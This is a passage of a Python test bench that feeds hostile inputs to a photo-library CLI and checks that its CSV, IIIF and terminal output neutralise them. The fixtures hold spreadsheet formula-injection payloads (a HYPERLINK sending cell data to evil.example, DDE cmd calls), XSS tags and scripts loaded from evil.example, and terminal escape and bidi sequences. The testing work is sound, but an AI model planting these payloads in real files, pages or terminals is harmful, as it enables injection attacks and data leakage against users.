"""A hostile-input and fault corpus for Wenyang (issue 16), run against the real CLI.

    .venv/bin/python bench/hostile_corpus.py [--quick] [--photos N] [--repeat R] [--only 1,5,10] [--keep]

Builds its own corpus in a temporary folder (photos, sheets, packages, model files, FIFOs,
a read-only bind mount and a full tmpfs where the machine allows) and runs
``python -m app.cli ...`` in subprocesses for each of the 14 classes of issue 16. Prints one
row per case (class, case, expected, observed, verdict) and, per class and in total, how many
cases were tried and how many were ok. Exit code 0 only when no row FAILed; a case that
needs what this machine lacks (root, ``mount``) is listed as skipped and counted apart.

Everything is deterministic (fixed seeds). No model is trained: where a case needs a model,
a tiny hand-made ONNX model (three MatMul networks built with the ``onnx`` package) is
written into the library's ``models/`` folder and registered through the library API; that
setup step is the only place this script calls Wenyang's Python API instead of the CLI.

``--photos 2000 --repeat 5`` is the full concurrency check of the issue (two imports at once
over 2,000 photos, five times); the default is 300 photos once in each file order.
"""
from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import random
import re
import shutil
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
import unicodedata
import zipfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from PIL import Image

REPO = Path(__file__).resolve().parents[1]
CLASS_NAMES = {
    1: "csv-inject", 2: "markup/ctl", 3: "telemetry", 4: "special-out", 5: "sheets",
    6: "look-alike", 7: "packages", 8: "bad-model", 9: "cli-args", 10: "concurrent",
    11: "kill-left", 12: "read-only", 13: "full-disk", 14: "win-names",
}
# what a terminal obeys: C0 (but tab and newline), DEL, C1, bidirectional embeddings/overrides/isolates
TERMINAL_HOSTILE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA = ("=", "+", "-", "@")
WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in "0123456789¹²³"),
                    *(f"LPT{i}" for i in "0123456789¹²³")}


# ------------------------------------------------------------------------------------------
# running the CLI and recording rows
# ------------------------------------------------------------------------------------------
@dataclass
class Run:
    argv: list
    rc: int
    out_b: bytes
    err_b: bytes
    seconds: float

    @property
    def out(self) -> str:
        return self.out_b.decode("utf-8", "replace")

    @property
    def err(self) -> str:
        return self.err_b.decode("utf-8", "replace")

    @property
    def both(self) -> str:
        return self.out + self.err

    def first_err(self) -> str:
        lines = [l for l in self.err.splitlines() if l.strip()]
        return lines[-1] if lines else ""


@dataclass
class Row:
    cls: int
    case: str
    expected: str
    observed: str
    verdict: str  # ok, FAIL, skipped (...)


def visible(text, limit: int = 110) -> str:
    """One printable line: control and bidi characters as escapes, newlines as ' | '."""
    text = str(text)
    text = text.replace("\r\n", "\n").strip().replace("\n", " | ")
    text = TERMINAL_HOSTILE.sub(lambda m: f"\\x{ord(m.group()):02x}" if ord(m.group()) < 0x100
                                else f"\\u{ord(m.group()):04x}", text)
    return text if len(text) <= limit else text[:limit - 1] + "…"


class Bench:
    def __init__(self, root: Path, options):
        self.root = root
        self.options = options
        self.rows: list[Row] = []
        self.home = root / "home"
        self.tmp = root / "tmp"
        self.home.mkdir()
        self.tmp.mkdir()
        self.env = self.make_env(self.home, self.tmp)
        self._photo_cache: dict = {}
        self._model_base: Path | None = None
        self.mounts: list[Path] = []

    @staticmethod
    def make_env(home: Path, tmp: Path) -> dict:
        env = {k: v for k, v in os.environ.items()
               if not k.startswith(("XDG_", "WENYANG", "ORT_")) and k not in ("TMP", "TEMP")}
        env.update(HOME=str(home), TMPDIR=str(tmp), OMP_NUM_THREADS="1", PYTHONDONTWRITEBYTECODE="1",
                   LC_ALL="C.UTF-8", PYTHONIOENCODING="utf-8", COLUMNS="200")
        return env

    # -- subprocesses ----------------------------------------------------------------------
    def cli(self, *argv, env=None, timeout: float = 120) -> Run:
        return self._run([sys.executable, "-m", "app.cli", *map(str, argv)], env, timeout)

    def py(self, code: str, *argv, env=None, timeout: float = 120) -> Run:
        return self._run([sys.executable, "-c", code, *map(str, argv)], env, timeout)

    def _run(self, cmd, env, timeout) -> Run:
        started = time.perf_counter()
        try:
            done = subprocess.run(cmd, cwd=REPO, env=env or self.env, capture_output=True,
                                  stdin=subprocess.DEVNULL, timeout=timeout)
            return Run(cmd, done.returncode, done.stdout, done.stderr, time.perf_counter() - started)
        except subprocess.TimeoutExpired as exc:
            return Run(cmd, 124, exc.stdout or b"", (exc.stderr or b"") + b"\n[timed out]",
                       time.perf_counter() - started)

    def popen(self, *argv, env=None) -> subprocess.Popen:
        return subprocess.Popen([sys.executable, "-m", "app.cli", *map(str, argv)], cwd=REPO,
                                env=env or self.env, stdin=subprocess.DEVNULL,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    # -- rows ------------------------------------------------------------------------------
    def row(self, cls: int, case: str, expected: str, ok: bool, observed) -> bool:
        observed = str(observed).replace(str(self.root), "$T")
        self.rows.append(Row(cls, case, expected, visible(observed), "ok" if ok else "FAIL"))
        return ok

    def skip(self, cls: int, case: str, expected: str, why: str) -> None:
        self.rows.append(Row(cls, case, expected, "-", f"skipped ({why})"))

    # -- fixtures --------------------------------------------------------------------------
    def folder(self, name: str) -> Path:
        path = self.root / name
        path.mkdir(parents=True, exist_ok=True)
        return path

    def photo(self, folder: Path, name: str, seed: int, size=(64, 48), kind: str = "noise",
              quality: int = 90) -> Path:
        path = folder / name
        rng = np.random.default_rng(seed)
        w, h = size
        if kind == "noise":
            pixels = rng.integers(0, 256, (h, w, 3), dtype=np.uint8)
        else:  # a gradient with a random tint: compresses, still unique per seed
            x = np.linspace(0, 255, w, dtype=np.float32)[None, :, None]
            y = np.linspace(0, 255, h, dtype=np.float32)[:, None, None]
            tint = rng.integers(0, 256, 3).astype(np.float32)[None, None, :]
            pixels = ((x + y) / 2 * 0.6 + tint * 0.4).astype(np.uint8)
        img = Image.fromarray(pixels)
        suffix = path.suffix.lower()
        if suffix in (".jpg", ".jpeg"):
            img.save(path, "JPEG", quality=quality)
        else:
            img.save(path)
        return path

    def photos(self, folder: Path, prefix: str, n: int, seed0: int, **kw) -> list[Path]:
        folder.mkdir(parents=True, exist_ok=True)
        return [self.photo(folder, f"{prefix}{i:04d}.jpg", seed0 + i, **kw) for i in range(n)]

    def library(self, name: str, photos=(), sheet: Path | None = None, extra=()) -> tuple[Path, Run | None]:
        lib = self.root / name
        init = self.cli("init", lib)
        if init.rc != 0:
            raise RuntimeError(f"init {lib} failed: {init.both}")
        imp = None
        if photos:
            args = ["import", lib, *photos, "-q", *extra]
            if sheet is not None:
                args += ["--metadata", sheet]
            imp = self.cli(*args)
        return lib, imp

    def show_json(self, lib: Path, ref: str, env=None) -> dict | None:
        run = self.cli("show", lib, "--json", "--", ref, env=env)
        if run.rc != 0:
            return None
        try:
            return json.loads(run.out)
        except json.JSONDecodeError:
            return None

    def items(self, lib: Path) -> list[dict]:
        run = self.cli("ls", lib, "--json", "--limit", "0")
        return json.loads(run.out) if run.rc == 0 else []

    # -- a tiny hand-made model ------------------------------------------------------------
    def model_library(self) -> Path:
        """A library of a few items with a tiny valid ONNX model, registered, active, encoded
        (built once; copy it before changing it)."""
        if self._model_base is not None:
            return self._model_base
        folder = self.folder("model-photos")
        photos = [self.photo(folder, f"m{i}.jpg", 900 + i) for i in range(4)]
        sheet = write_csv(folder / "sheet.csv", ["file", "accession", "title", "description", "labels"], [
            ["m0.jpg", "M-0", "Red dragon robe", "a red robe with a dragon", "dragon"],
            ["m1.jpg", "M-1", "Phoenix skirt", "a skirt with a phoenix", "phoenix"],
            ["m2.jpg", "M-2", "Blue robe", "a blue robe", ""],
            ["m3.jpg", "M-3", "龙纹袍", "红色龙纹袍", "dragon"],
        ])
        lib, imp = self.library("model-lib", photos, sheet)
        if imp is None or imp.rc != 0:
            raise RuntimeError(f"model library import failed: {imp.both if imp else ''}")
        install_fake_model(self, lib)
        enc = self.cli("encode", lib)
        if enc.rc != 0:
            raise RuntimeError(f"encoding with the fake model failed: {enc.both}")
        self._model_base = lib
        return lib

    def copy_library(self, source: Path, name: str) -> Path:
        dest = self.root / name
        shutil.copytree(source, dest, symlinks=True)
        return dest

    # -- mounts ----------------------------------------------------------------------------
    def mount(self, *args) -> bool:
        if os.geteuid() != 0 or shutil.which("mount") is None:
            return False
        done = subprocess.run(["mount", *map(str, args)], capture_output=True)
        if done.returncode == 0 and Path(args[-1]) not in self.mounts:
            self.mounts.append(Path(args[-1]))
        return done.returncode == 0

    def umount(self, target: Path) -> None:
        if target in self.mounts:
            subprocess.run(["umount", str(target)], capture_output=True)
            if subprocess.run(["mountpoint", "-q", str(target)]).returncode == 0:
                subprocess.run(["umount", "-l", str(target)], capture_output=True)
            self.mounts.remove(target)

    def umount_all(self) -> None:
        for target in list(reversed(self.mounts)):
            self.umount(target)


def write_csv(path: Path, header, rows, encoding: str = "utf-8", delimiter: str = ",",
              bom: bytes = b"") -> Path:
    buf = io.StringIO(newline="")
    writer = csv.writer(buf, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    path.write_bytes(bom + buf.getvalue().encode(encoding))
    return path


def no_traceback(run: Run) -> bool:
    return "Traceback" not in run.both


def sqlite_facts(lib: Path) -> dict:
    """Counts and integrity, read with a read-only connection (after the writers ended)."""
    conn = sqlite3.connect(f"file:{lib / 'library.sqlite'}?mode=ro", uri=True)
    try:
        photos, distinct = conn.execute("SELECT COUNT(*), COUNT(DISTINCT sha256) FROM photos").fetchone()
        items = conn.execute("SELECT COUNT(*) FROM items").fetchone()[0]
        accessions = conn.execute("SELECT COUNT(DISTINCT accession) FROM items").fetchone()[0]
        bare = conn.execute("SELECT COUNT(*) FROM items WHERE id NOT IN (SELECT item_id FROM photos)").fetchone()[0]
        integrity = conn.execute("PRAGMA integrity_check").fetchone()[0]
    finally:
        conn.close()
    return {"photos": photos, "distinct": distinct, "items": items, "accessions": accessions,
            "bare": bare, "integrity": integrity}


def parts_under(*folders: Path) -> list[Path]:
    found = []
    for folder in folders:
        if folder.exists():
            found += [p for p in folder.rglob("*") if p.name.endswith((".part", ".partial"))]
    return found


# ------------------------------------------------------------------------------------------
# the fake model: image (pixels 3×32×32), text (5 terms) and label networks
# ------------------------------------------------------------------------------------------
TERMS = ["dragon", "red", "robe", "phoenix", "龙"]


def onnx_net(kind: str, in_dim: int, labels: int, bits: int = 16, seed: int = 0,
             outputs=("h", "label_probs")) -> bytes:
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.default_rng(seed)
    feat = 3 if kind == "image" else in_dim
    w1 = numpy_helper.from_array(rng.standard_normal((feat, bits)).astype(np.float32), "W1")
    w2 = numpy_helper.from_array(rng.standard_normal((feat, labels)).astype(np.float32), "W2")
    nodes, source = [], "x"
    if kind == "image":
        nodes += [helper.make_node("GlobalAveragePool", ["x"], ["pooled"]),
                  helper.make_node("Flatten", ["pooled"], ["flat"], axis=1)]
        source = "flat"
        x_info = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 3, 32, 32])
    else:
        x_info = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", in_dim])
    nodes += [helper.make_node("MatMul", [source, "W1"], [outputs[0]]),
              helper.make_node("MatMul", [source, "W2"], ["z"]),
              helper.make_node("Sigmoid", ["z"], [outputs[1]])]
    graph = helper.make_graph(nodes, kind, [x_info], [
        helper.make_tensor_value_info(outputs[0], TensorProto.FLOAT, ["N", bits]),
        helper.make_tensor_value_info(outputs[1], TensorProto.FLOAT, ["N", labels])], [w1, w2])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    onnx.checker.check_model(model)
    return model.SerializeToString()


def onnx_identity(dim: int) -> bytes:
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "identity",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", dim])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", dim])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    return model.SerializeToString()


SCHEME_FACTS = """
import json, sys
from app.store import open_library
with open_library(sys.argv[1]) as lib:
    s = lib.scheme
    print(json.dumps({"ids": [l.id for l in s.ordered()], "fingerprint": s.fingerprint()}))
"""
REGISTER = """
import json, sys
from pathlib import Path
from app.store import open_library
from app.text.vocabulary import Vocabulary
terms = json.loads(sys.argv[3])
folder = Path(sys.argv[2])
card = json.loads((folder / "card.json").read_text(encoding="utf-8"))
card["vocabulary"] = Vocabulary(tuple(terms), tuple(1 for _ in terms), tuple(1.0 for _ in terms), len(terms)).to_dict()
(folder / "card.json").write_text(json.dumps(card, ensure_ascii=False), encoding="utf-8")
with open_library(sys.argv[1]) as lib:
    lib.models.register(card["id"], card["bits"], card["mode"], card, activate=True)
"""


def fake_card(model_id: str, ids: list[str], fingerprint: str) -> dict:
    return {"format": "wenyang-model", "format_version": 1, "id": model_id, "bits": 16, "mode": "ssah",
            "networks": {"image": {"file": "image.onnx", "input": "x"},
                         "text": {"file": "text.onnx", "input": "x"},
                         "label": {"file": "label.onnx", "input": "x"}},
            "image_input": "pixels", "backbone": "none",
            "preprocessing": {"size": 32, "mean": [0.485, 0.456, 0.406], "std": [0.229, 0.224, 0.225]},
            "label_predictions": True, "label_ids": ids, "scheme_fingerprint": fingerprint,
            "text_mode": "tfidf", "calibration": {}}


def write_fake_model(folder: Path, ids: list[str], fingerprint: str, model_id: str = "fake-1") -> dict:
    folder.mkdir(parents=True, exist_ok=True)
    c = len(ids)
    (folder / "image.onnx").write_bytes(onnx_net("image", 3, c, seed=1))
    (folder / "text.onnx").write_bytes(onnx_net("text", len(TERMS), c, seed=2))
    (folder / "label.onnx").write_bytes(onnx_net("label", c, c, seed=3))
    card = fake_card(model_id, ids, fingerprint)
    (folder / "card.json").write_text(json.dumps(card, ensure_ascii=False), encoding="utf-8")
    return card


def install_fake_model(bench: Bench, lib: Path) -> None:
    facts = bench.py(SCHEME_FACTS, lib)
    if facts.rc != 0:
        raise RuntimeError(f"cannot read the scheme: {facts.both}")
    data = json.loads(facts.out)
    folder = lib / "models" / "fake-1"
    write_fake_model(folder, data["ids"], data["fingerprint"])
    reg = bench.py(REGISTER, lib, folder, json.dumps(TERMS, ensure_ascii=False))
    if reg.rc != 0:
        raise RuntimeError(f"cannot register the fake model: {reg.both}")


# ------------------------------------------------------------------------------------------
# 1. CSV formula injection
# ------------------------------------------------------------------------------------------
def dangerous(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell? (OWASP: = + - @, tab, CR; also after spaces.)"""
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(FORMULA)


def read_export_csv(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def class1(b: Bench) -> None:
    folder = b.folder("c1")
    # (accession, title, description, metadata); title/description/accession are stored stripped
    cases = [
        ("=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1:A9)",
         {"note": "@SUM(1+1)*cmd|' /C calc'!A0"}),
        ("-2+3", "  =cmd|' /C calc'!A0", "\t@SUM(1)", {"note": "\t=1+1", "maker": "   -5"}),
        ("@acc3", "\u3000=IMPORTXML(\"http://x\",\"//a\")", "+cmd", {"note": "\u3000=1+1", "maker": "\r=2+2"}),
        ("+44 20 7946", "'=already quoted", "'plain text", {"note": "\u00a0@x", "maker": "-"}),
        ("  \t=tab-acc", "@title", "-description", {"note": "\r\n=crlf"}),
        ("A-safe", "a=b at no start", "3-4 pieces", {"note": "x+y", "maker": "safe"}),
    ]
    photos = [b.photo(folder, f"c1_{i}.jpg", 100 + i) for i in range(len(cases))]
    keys = list(dict.fromkeys(k for *_, meta in cases for k in meta))
    header = ["file", "accession", "title", "description", "labels", *keys]
    rows = [[p.name, acc, title, desc, "dragon", *[meta.get(k, "") for k in keys]]
            for p, (acc, title, desc, meta) in zip(photos, cases)]
    # a hostile metadata key too: the header cell is a formula
    header.append("=HYPERLINK(\"http://evil\")")
    for r in rows:
        r.append("")
    rows[0][-1] = "key-value"
    sheet = write_csv(folder / "sheet.csv", header, rows)
    lib, imp = b.library("c1-lib", photos, sheet)
    if not b.row(1, "import the hostile sheet", "exit 0", imp.rc == 0, f"rc={imp.rc} {imp.first_err()}"):
        return
    before = {it["accession"]: it for it in b.items(lib)}
    out = folder / "export.csv"
    exp = b.cli("export", lib, "--all", "--format", "csv", "-o", out)
    if not b.row(1, "export --format csv", "exit 0", exp.rc == 0, f"rc={exp.rc} {exp.first_err()}"):
        return
    table = read_export_csv(out)
    head, body = table[0], table[1:]
    col = {name: j for j, name in enumerate(head)}
    by_acc = {}
    for r in body:
        acc_cell = r[col["accession"]]
        by_acc[acc_cell[1:] if acc_cell.startswith("'") and dangerous(acc_cell[1:]) else acc_cell] = r
    # every cell a spreadsheet would run starts with a quote
    bad = [c for r in table for c in r if dangerous(c)]
    b.row(1, "whole file: no cell a spreadsheet would run", "0 unquoted formula cells",
          not bad, f"{len(bad)} unquoted: {bad[:3]!r}")
    for stored_acc, item in before.items():
        r = by_acc.get(stored_acc)
        if r is None:
            b.row(1, f"item {stored_acc!r} in the export", "a row", False, "missing")
            continue
        fields = [("accession", stored_acc), ("title", item["title"]), ("description", item["description"])]
        fields += [(k, v) for k, v in item["metadata"].items() if k in col]
        for name, value in fields:
            rest = value.lstrip("'")
            want = "'" + value if rest and dangerous(rest) else value
            if want == value and not (stored_acc == "A-safe" and value not in ("", "safe")):
                continue  # nothing hostile here
            b.row(1, f"{name} {value!r}", "quoted ('…)" if want != value else "unchanged",
                  r[col[name]] == want, repr(r[col[name]]))
    # the hostile header
    hostile_header = [h for h in head if "HYPERLINK(\"http://evil" in h]
    b.row(1, "metadata key '=HYPERLINK(…)' (header cell)", "header quoted",
          bool(hostile_header) and all(h.startswith("'") for h in hostile_header), repr(hostile_header))
    # search-result CSV
    res = folder / "search.csv"
    srch = b.cli("search", lib, "--labels", "dragon", "-k", "50", "--export", res)
    if b.row(1, "search --labels dragon --export r.csv", "exit 0", srch.rc == 0,
             f"rc={srch.rc} {srch.first_err()}"):
        rtable = read_export_csv(res)
        rbad = [c for r in rtable for c in r if dangerous(c)]
        b.row(1, "search-result CSV: no cell a spreadsheet would run", "0 unquoted formula cells",
              not rbad and len(rtable) > 1, f"{len(rtable) - 1} rows, {len(rbad)} unquoted {rbad[:3]!r}")
    # re-import of the export as a metadata sheet restores every text
    lib2, imp2 = b.library("c1-lib2", photos, out, extra=["--map", "photos=file"])
    if not b.row(1, "re-import the exported CSV as a sheet", "exit 0", imp2.rc == 0,
                 f"rc={imp2.rc} {imp2.first_err()}"):
        return
    for stored_acc, item in before.items():
        again = b.show_json(lib2, stored_acc)
        if again is None:
            b.row(1, f"re-import {stored_acc!r}", "show finds the accession", False, "not found")
            continue
        diffs = [f for f in ("title", "description") if again[f] != item[f]]
        diffs += [f"metadata[{k!r}]" for k, v in item["metadata"].items() if again["metadata"].get(k) != v]
        extra = [k for k in again["metadata"] if k not in item["metadata"] and k not in ("labels_zh", "collections")]
        diffs += [f"new key {k!r}" for k in extra]
        b.row(1, f"round trip {stored_acc!r}", "show --json equals the original", not diffs,
              "equal" if not diffs else f"differs: {', '.join(diffs)}")


# ------------------------------------------------------------------------------------------
# 2. markup and control characters
# ------------------------------------------------------------------------------------------
MARKUP_RE = re.compile(r"<\s*/?\s*[A-Za-z!?]")


def json_strings(obj, path="$"):
    if isinstance(obj, dict):
        for k, v in obj.items():
            yield f"{path}.key", k
            yield from json_strings(v, f"{path}.{k}")
    elif isinstance(obj, list):
        for n, v in enumerate(obj):
            yield from json_strings(v, f"{path}[{n}]")
    elif isinstance(obj, str):
        yield path, obj


def class2(b: Bench) -> None:
    folder = b.folder("c2")
    markup = [
        ("X-1", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", {"note": "<svg onload=alert(1)>"}),
        ("X-2", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "text <iframe src=javascript:alert(1)>",
         {"<b onmouseover=alert(1)>key": "<a href=\"javascript:alert(1)\">x</a>"}),
        ("X-3", "<p>looks like allowed html</p>", "<img src=\"x\" onerror=\"alert(1)\"/>", {"note": "< script>"}),
    ]
    escapes = [
        ("E-1", "\x1b[31mred\x1b[0m title", "\x1b[2J\x1b[Hcleared", {"note": "\x1b]0;pwned\x07"}),
        ("E-2", "osc \x1b]0;window title\x07 here", "\x9b31mC1 CSI", {"note": "bell\x07\x08\x08"}),
        ("E-3", "\u202eevil\u202c reversed", "\u2067isolate\u2069 x", {"note": "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"}),
        ("E-4", "cr in\rthe middle", "del\x7f and \x85 NEL", {"ke\x1by": "v\x1b[1m"}),
    ]
    cases = markup + escapes
    photos = [b.photo(folder, f"c2_{i}.jpg", 200 + i) for i in range(len(cases))]
    keys = list(dict.fromkeys(k for *_, meta in cases for k in meta))
    rows = [[p.name, acc, title, desc, *[meta.get(k, "") for k in keys]]
            for p, (acc, title, desc, meta) in zip(photos, cases)]
    sheet = write_csv(folder / "sheet.csv", ["file", "accession", "title", "description", *keys], rows)
    lib, imp = b.library("c2-lib", photos, sheet)
    if not b.row(2, "import titles with markup and escapes", "exit 0", imp.rc == 0,
                 f"rc={imp.rc} {imp.first_err()}"):
        return
    b.cli("collections", "create", lib, "<script>alert('coll')</script>")
    b.cli("collections", "add", lib, "<script>alert('coll')</script>", "X-1", "X-2")
    # IIIF: every JSON file, every string (keys too)
    site = folder / "iiif"
    exp = b.cli("export", lib, "--all", "--format", "iiif", "-o", site)
    if b.row(2, "export --format iiif", "exit 0", exp.rc == 0, f"rc={exp.rc} {exp.first_err()}"):
        files = sorted(site.rglob("*.json"))
        raw_bad, markup_bad, ctl_bad = [], [], []
        for f in files:
            data = f.read_bytes()
            if re.search(rb"<\s*(script|img|svg|iframe)", data, re.I):
                raw_bad.append(f.name)
            for where, s in json_strings(json.loads(data)):
                inner = s[len("<span>"):-len("</span>")] if s.startswith("<span>") and s.endswith("</span>") else s
                if MARKUP_RE.search(inner):
                    markup_bad.append(f"{f.name}:{where}={s[:40]!r}")
                if TERMINAL_HOSTILE.search(s):
                    ctl_bad.append(f"{f.name}:{where}")
        b.row(2, f"IIIF files: raw <script/<img/<svg/<iframe ({len(files)} JSON files)",
              "none in any file", not raw_bad, f"in {raw_bad[:3]}" if raw_bad else "none")
        b.row(2, "IIIF strings: markup other than the <span> wrapper", "none", not markup_bad,
              "; ".join(markup_bad[:2]) or "none")
        b.row(2, "IIIF strings: control/bidi characters", "none", not ctl_bad,
              "; ".join(ctl_bad[:3]) or "none")
        labels_html = []
        for f in files:
            doc = json.loads(f.read_bytes())
            for where, s in json_strings(doc):
                if ".label." in where + "." and "<" in s:
                    labels_html.append(f"{f.name}:{where}")
        b.row(2, "IIIF labels (no HTML allowed there)", "no '<' in any label", not labels_html,
              "; ".join(labels_html[:2]) or "none")
    # terminal output
    commands = [
        ("ls", ["ls", lib]), ("ls --limit 0", ["ls", lib, "--limit", "0"]),
        ("ls --json", ["ls", lib, "--json"]),
        *[(f"show {acc}", ["show", lib, acc]) for acc, *_ in escapes],
        ("show --json E-3", ["show", lib, "--json", "E-3"]),
        ("search --text title (keyword hits)", ["search", lib, "--text", "title"]),
        ("collections list", ["collections", "list", lib]),
    ]
    for name, argv in commands:
        run = b.cli(*argv)
        found = sorted({f"U+{ord(c):04X}" for c in TERMINAL_HOSTILE.findall(run.both)})
        b.row(2, f"terminal: {name}", "exit 0, no raw ESC/BEL/C1/bidi", run.rc == 0 and not found,
              f"rc={run.rc} raw: {', '.join(found) or 'none'}")
    # a label and a photo file name with escapes
    run = b.cli("labels", "add", lib, "\x1b[5mblink\x1b[0m label", "--facet", "category")
    lst = b.cli("labels", "list", lib)
    found = TERMINAL_HOSTILE.findall(run.both + lst.both)
    b.row(2, "terminal: labels add/list of a name with ESC", "no raw control characters", not found,
          f"add rc={run.rc}, list rc={lst.rc}, raw: {len(found)}")
    odd = b.photo(folder, "odd\x1b[31mname\x07.jpg", 299)
    run = b.cli("import", lib, odd)
    show = b.cli("ls", lib, "--limit", "0")
    found = TERMINAL_HOSTILE.findall(run.both + show.both)
    b.row(2, "terminal: import of a file named with ESC/BEL", "exit 0, no raw control characters",
          run.rc == 0 and not found, f"rc={run.rc} raw: {len(found)}")


# ------------------------------------------------------------------------------------------
# 3. ONNX Runtime telemetry and temp files
# ------------------------------------------------------------------------------------------
def listing(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


def class3(b: Bench) -> None:
    folder = b.folder("c3")
    plain = b.root / "c1-lib" if (b.root / "c1-lib").exists() else b.library(
        "c3-lib", [b.photo(folder, "c3.jpg", 300)])[0]
    model_lib = b.model_library()
    query = b.photo(folder, "q.jpg", 301)
    allowed_home = {".cache", ".cache/Wenyang", ".cache/Wenyang/jieba.cache"}
    runs = [
        ("ls", ["ls", plain], None),
        ("search --text dragon (no model)", ["search", plain, "--text", "dragon"], "no model"),
        ("search --text 龙纹袍 (no model, jieba)", ["search", plain, "--text", "红色龙纹袍"], "no model"),
        ("search --text (tiny ONNX model)", ["search", model_lib, "--text", "red dragon robe 龙"], "CPUExecutionProvider"),
        ("search --image (tiny ONNX model)", ["search", model_lib, "--image", query], "CPUExecutionProvider"),
        ("encode (tiny ONNX model)", ["encode", model_lib], None),
        ("search --labels dragon (model)", ["search", model_lib, "--labels", "dragon"], None),
    ]
    for name, argv, must in runs:
        home, tmp = Path(tempfile.mkdtemp(dir=folder)), Path(tempfile.mkdtemp(dir=folder))
        run = b.cli(*argv, env=b.make_env(home, tmp))
        h, t = listing(home), listing(tmp)
        stray = [p for p in h if p not in allowed_home]
        ok = run.rc == 0 and not stray and not t and (must is None or must in run.out)
        b.row(3, name, f"exit 0{', says ' + repr(must) if must else ''}; TMPDIR empty; HOME: jieba.cache only",
              ok, f"rc={run.rc} tmp={t[:3]} home-extra={stray[:3]}" + ("" if must is None or must in run.out
                                                                        else f" no {must!r} in output"))
    for name, code in [("python -c 'import app.runtime.model'", "import app.runtime.model"),
                       ("load + run the tiny model via app.runtime", (
                           "import sys, numpy as np\nfrom app.runtime.model import load_model\n"
                           "m = load_model(sys.argv[1])\nprint(m.provider, m.encode_texts(np.ones((2, 5), np.float32))[0].shape)"))]:
        home, tmp = Path(tempfile.mkdtemp(dir=folder)), Path(tempfile.mkdtemp(dir=folder))
        run = b.py(code, model_lib / "models" / "fake-1", env=b.make_env(home, tmp))
        h, t = listing(home), listing(tmp)
        b.row(3, name, "exit 0; nothing under HOME or TMPDIR", run.rc == 0 and not h and not t,
              f"rc={run.rc} home={h[:3]} tmp={t[:3]} {run.first_err() if run.rc else ''}")
    b.skip(3, "train: no telemetry, nothing in HOME/TMPDIR", "as above", "needs training; out of this bench")
    # a HOME that cannot hold the cache: nothing may fall back to the temp folder
    blocker = folder / "not-a-folder"
    blocker.write_text("x")
    tmp = Path(tempfile.mkdtemp(dir=folder))
    env = b.make_env(blocker / "home", tmp)
    run = b.cli("search", plain, "--text", "红色龙纹袍", env=env)
    t = listing(tmp)
    b.row(3, "search --text 龙纹 with an unusable HOME", "exit 0; TMPDIR stays empty", run.rc == 0 and not t,
          f"rc={run.rc} tmp={t[:3]} {run.first_err() if run.rc else ''}")
    # XDG_CACHE_HOME is honoured: the cache goes there, not to HOME
    home, tmp, xdg = (Path(tempfile.mkdtemp(dir=folder)) for _ in range(3))
    env = b.make_env(home, tmp)
    env["XDG_CACHE_HOME"] = str(xdg)
    run = b.cli("search", plain, "--text", "龙纹马面裙", env=env)
    b.row(3, "search --text with XDG_CACHE_HOME set", "cache in XDG_CACHE_HOME/Wenyang; HOME, TMPDIR empty",
          run.rc == 0 and not listing(home) and not listing(tmp) and (xdg / "Wenyang" / "jieba.cache").is_file(),
          f"rc={run.rc} home={listing(home)[:2]} tmp={listing(tmp)[:2]} xdg={listing(xdg)[:3]}")


# ------------------------------------------------------------------------------------------
# 4. exports onto FIFOs, device nodes, sockets
# ------------------------------------------------------------------------------------------
def node_kind(path: Path) -> str:
    try:
        st = path.lstat()
    except FileNotFoundError:
        return "missing"
    if stat.S_ISLNK(st.st_mode):
        return f"symlink->{os.readlink(path)}"
    for test, name in ((stat.S_ISFIFO, "fifo"), (stat.S_ISSOCK, "socket"), (stat.S_ISCHR, "chardev"),
                       (stat.S_ISBLK, "blockdev"), (stat.S_ISREG, "file"), (stat.S_ISDIR, "dir")):
        if test(st.st_mode):
            return name
    return "other"


def class4(b: Bench) -> None:
    folder = b.folder("c4")
    photos = [b.photo(folder, f"c4_{i}.jpg", 400 + i) for i in range(6)]
    sheet = write_csv(folder / "sheet.csv", ["file", "title", "labels"], [[p.name, "t", "dragon"] for p in photos])
    lib, _ = b.library("c4-lib", photos, sheet)
    nodes = folder / "nodes"
    nodes.mkdir()
    targets: list[tuple[str, Path]] = []
    fifo = nodes / "out.fifo"
    os.mkfifo(fifo)
    targets.append(("FIFO", fifo))
    link = nodes / "null.csv"
    os.symlink("/dev/null", link)
    targets.append(("symlink to /dev/null", link))
    fifo2 = nodes / "inner.fifo"
    os.mkfifo(fifo2)
    link2 = nodes / "to-fifo.zip"
    os.symlink(fifo2, link2)
    targets.append(("symlink to a FIFO", link2))
    sock_path = nodes / "out.sock"
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.bind(str(sock_path))
        targets.append(("UNIX socket", sock_path))
    except OSError:
        b.skip(4, "UNIX socket", "refused", "cannot bind a socket here")
    if os.geteuid() == 0:
        dev = nodes / "mynull"
        try:
            os.mknod(dev, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # a private copy of /dev/null
            targets.append(("character device (private /dev/null)", dev))
